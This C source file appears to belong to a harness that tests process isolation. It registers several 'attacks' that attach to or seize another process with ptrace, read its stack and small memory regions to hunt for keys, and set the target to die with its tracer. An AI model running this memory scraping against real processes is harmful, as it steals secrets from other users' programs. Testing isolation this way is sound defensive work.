// Traces another process: reads the stack's pages, where the environment lies, word by
// word; or has it end with its tracer. ptrace(2)
#define _GNU_SOURCE
#include "attack.h"

#include <errno.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>

static void Peek(const struct Region* region, void* context) {
  static char bytes[1 << 18];
  const pid_t target = *(const pid_t*)context;
  size_t length = 0;
  for (uintptr_t at = region->start; at < region->end && length < sizeof bytes; at += sizeof(long)) {
    errno = 0;
    const long word = ptrace(PTRACE_PEEKDATA, target, (void*)at, NULL);
    if (errno != 0) break;
    memcpy(bytes + length, &word, sizeof word);
    length += sizeof word;
  }
  Hunt(bytes, length);
}

static void PeekStack(const struct Region* region, void* context) {
  if (region->is_stack) Peek(region, context);
}

// A key has a mapping of its own; word by word, a large one would take too long.
static void PeekStackAndSmall(const struct Region* region, void* context) {
  if (region->is_stack || region->end - region->start <= 1 << 15) Peek(region, context);
}

static void Trace(pid_t target, int how, RegionVisitor peek) {
  if (ptrace(how, target, NULL, NULL) != 0) {
    Refused(how == PTRACE_SEIZE ? "ptrace(PTRACE_SEIZE)" : "ptrace(PTRACE_ATTACH)");
    return;
  }
  if (how == PTRACE_SEIZE && ptrace(PTRACE_INTERRUPT, target, NULL, NULL) != 0) Refused("ptrace(PTRACE_INTERRUPT)");
  int status;
  if (waitpid(target, &status, __WALL) == target) ForEachRegion(target, peek, &target);
  ptrace(PTRACE_DETACH, target, NULL, NULL);
}

static void Attach(pid_t target, char** arguments) {
  (void)arguments;
  Trace(target, PTRACE_ATTACH, PeekStack);
}

static void AttachToAll(pid_t target, char** arguments) {
  (void)arguments;
  Trace(target, PTRACE_ATTACH, PeekStackAndSmall);
}

static void Seize(pid_t target, char** arguments) {
  (void)arguments;
  Trace(target, PTRACE_SEIZE, PeekStack);
}

static void ExitKill(pid_t target, char** arguments) {
  (void)arguments;
  if (ptrace(PTRACE_SEIZE, target, NULL, (void*)PTRACE_O_EXITKILL) != 0) Refused("ptrace(PTRACE_SEIZE)");
}

ATTACK("ptrace", Attach)
ATTACK("ptrace-mappings", AttachToAll)
ATTACK("ptrace-seize", Seize)
ATTACK("ptrace-exitkill", ExitKill)
